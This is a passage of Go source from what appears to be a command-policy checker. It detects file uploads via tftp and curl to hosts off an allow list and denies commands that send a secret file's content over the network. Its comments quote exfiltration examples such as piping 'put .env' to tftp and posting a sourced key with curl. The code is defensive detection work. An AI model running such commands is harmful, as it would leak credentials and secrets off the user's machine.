					}
				}
			}
		case a.Value == "-p" || a.Value == "--put":
			put = true
		case a.Value == "-l" || a.Value == "--local-file":
			local, _ = next()
		case strings.HasPrefix(a.Value, "--local-file="):
			local = sub(a, strings.TrimPrefix(a.Value, "--local-file="))
		case a.Value == "-r" || a.Value == "--remote-file" || a.Value == "-b" || a.Value == "-m" || a.Value == "--mode" || a.Value == "--option":
			next()
		case strings.HasPrefix(a.Value, "-"):
		default:
			if host == "" {
				host = a.Value
			}
		}
	}
	if put && local.Value != "" {
		p.upload(c, local, host)
	}
	if c.Name == "tftp" {
		// tftp HOST reads its commands on stdin, read as sftp's are (a
		// here-document, a file, echo or printf piped in): each put sends
		// a file (tftp h <<< "put .env").
		if text, _, why := p.sftpCommands(c, nil); why == "" {
			for _, line := range strings.Split(text, "\n") {
				if f := strings.Fields(line); len(f) > 1 && f[0] == "put" {
					p.upload(c, syntax.Arg{Value: f[1], Raw: f[1], Static: true, Start: c.Start, End: c.End}, host)
				}
			}
		}
	}
}

// secretArgs reports, and judges as an upload of that file, a network
// command given a variable that holds a secret file's content (source
// .env; curl -d "$KEY" https://…): the value leaves the machine.
func (p *Pass) secretArgs(c *syntax.Call) bool {
	if len(c.Sources) == 0 || !networkCommands.Get()[c.Name] || p.Config.Paths == nil {
		return false
	}
	for _, a := range c.Args {
		if len(a.From()) == 0 {
			continue
		}
		if sec, ok := p.secretFile(c.Dir, a.From()); ok {
			p.Report(c, Finding{Rule: "exfiltrate", Decision: Deny, PathContext: "blocked",
				Message: sec.Reason(fmt.Sprintf("%s sends %s, which holds the content of", c.Name, a.Raw))})
			return true
		}
	}
	return false
}

// awayHost names, for a finding, the destination host that is off
// network.allow_hosts ("" when it is only known at run time).
func awayHost(host string) string {
	if host == "" {
		return "a host that is not on network.allow_hosts"
	}
	return host + ", which is not on network.allow_hosts"
}
